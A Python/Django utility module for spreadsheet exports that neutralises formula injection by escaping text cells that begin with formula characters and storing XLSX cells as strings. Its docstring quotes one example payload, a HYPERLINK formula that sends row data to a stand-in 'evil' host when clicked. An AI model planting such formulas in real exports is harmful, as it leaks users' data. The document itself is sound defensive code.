"""Writing spreadsheets people open in Excel or LibreOffice, with no cell run as a formula.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by spreadsheet programs as a formula (``=HYPERLINK("http://evil/?"&A2, "Open")``
sends the row elsewhere when clicked; DDE formulas can start programs). Every export
writes its cells through ``safe_cell``, which puts an apostrophe before such text (the
OWASP advice: the program shows the text, the apostrophe is hidden), and through one of
the writers here. Numbers, dates and empty cells pass unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet cell that cannot be run as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def csv_response(
    *, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponse:
    """A CSV download (UTF-8 with a byte order mark, so spreadsheet programs read Kazakh
    and Russian names) with every cell passed through ``safe_cell``."""
    response = HttpResponse(content_type=CSV_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return response


def xlsx_bytes(*, title: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """An XLSX workbook of one sheet with every cell passed through ``safe_cell`` and
    stored as a value, never as a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31] or "Sheet")
    for row in [header, *rows]:
        cells = []
        for value in safe_row(row):
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type = "s"  # a string, even if openpyxl would guess a formula
                cells.append(cell)
            else:
                cells.append(value)
        sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    *, filename: str, title: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponse:
    response = HttpResponse(
        xlsx_bytes(title=title, header=header, rows=rows), content_type=XLSX_TYPE
    )
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response
